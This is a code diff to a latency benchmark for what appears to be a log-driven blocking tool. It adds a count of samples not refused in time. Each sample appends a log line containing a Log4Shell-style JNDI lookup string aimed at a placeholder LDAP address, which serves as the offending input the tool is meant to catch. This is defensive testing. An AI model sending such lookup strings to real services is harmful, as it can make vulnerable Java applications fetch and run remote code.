@@ -30,6 +30,8 @@ interface Quantiles {
 
 export interface LatencyResult {
   readonly latency_ms: Quantiles & { readonly max: number; readonly n: number };
+  /** Lines whose sender was not refused within ten seconds, at which their run ends. They are not in the latencies. */
+  readonly given_up: number;
   readonly stages_ms: Record<string, Quantiles>;
   /** Of the processes of the stack without nginx and of this one, which makes the lines, in cores. */
   readonly cpu_cores: Readonly<Record<string, number>>;
@@ -55,6 +57,7 @@ export async function benchLatency({ rate, runs, samples }: LatencyOptions): Pro
   const all: Sample[] = [];
   const stages: Record<string, number[]> = {};
   const cores: Record<string, number[]> = {};
+  let givenUp = 0;
   for (let run = 0; run < runs; run++) {
     const folder = mkdtempSync(join(tmpdir(), 'weir-bench-'));
     const log = join(folder, 'source.log');
@@ -78,7 +81,12 @@ export async function benchLatency({ rate, runs, samples }: LatencyOptions): Pro
         const usage = cpuMeter(stack, clock);
         const measured: Sample[] = [];
         for (let i = 0; i < samples; i++) {
-          measured.push(await measureOne(addressOf(run, i), log, port, clock));
+          const sample = await measureOne(addressOf(run, i), log, port, clock);
+          if (!sample) {
+            givenUp++;
+            break;
+          }
+          measured.push(sample);
           await clock.sleep(PAUSE_MS);
         }
         for (const [name, used] of Object.entries(usage())) {
@@ -88,7 +96,8 @@ export async function benchLatency({ rate, runs, samples }: LatencyOptions): Pro
         stopping.abort();
         await load;
         all.push(...measured);
-        await addStages(stack, measured, stages);
+        // What is given up comes so late that nobody waits for it.
+        if (measured.length === samples) await addStages(stack, measured, stages);
       },
       folder,
     );
@@ -101,6 +110,7 @@ export async function benchLatency({ rate, runs, samples }: LatencyOptions): Pro
       max: percentile(latencies, 1),
       n: latencies.length,
     },
+    given_up: givenUp,
     stages_ms: Object.fromEntries(
       Object.entries(stages).map(([stage, ms]) => [
         stage,
@@ -134,21 +144,27 @@ function addressOf(run: number, i: number): string {
   return `127.${50 + run}.${i & 255}.${1 + (i >>> 8)}`;
 }
 
-/** Appends an offending line and asks every worker until all refuse. */
-async function measureOne(address: string, log: string, port: number, clock: Clock): Promise<Sample> {
+/** Appends an offending line and asks every worker until all refuse; undefined when that takes too long. */
+async function measureOne(
+  address: string,
+  log: string,
+  port: number,
+  clock: Clock,
+): Promise<Sample | undefined> {
   const connections = await connectionsToAll(address, port);
   const writtenMs = clock.now();
   appendFileSync(log, lineOf(clock.now(), address, '/', '${jndi:ldap://198.51.100.7/a}'));
-  for (const connection of connections) {
-    while ((await ask(connection, address, port)).status !== 403) {
-      if (clock.now() - writtenMs > GIVE_UP_MS)
-        throw new Error(`${address} was not refused within ${GIVE_UP_MS} ms`);
-      await clock.sleep(POLL_MS);
+  try {
+    for (const connection of connections) {
+      while ((await ask(connection, address, port)).status !== 403) {
+        if (clock.now() - writtenMs > GIVE_UP_MS) return undefined;
+        await clock.sleep(POLL_MS);
+      }
     }
+    return { address, writtenMs, refusedMs: clock.now() };
+  } finally {
+    for (const connection of connections) connection.destroy();
   }
-  const refusedMs = clock.now();
-  for (const connection of connections) connection.destroy();
-  return { address, writtenMs, refusedMs };
 }
 
 /** One kept-alive connection to each worker. */
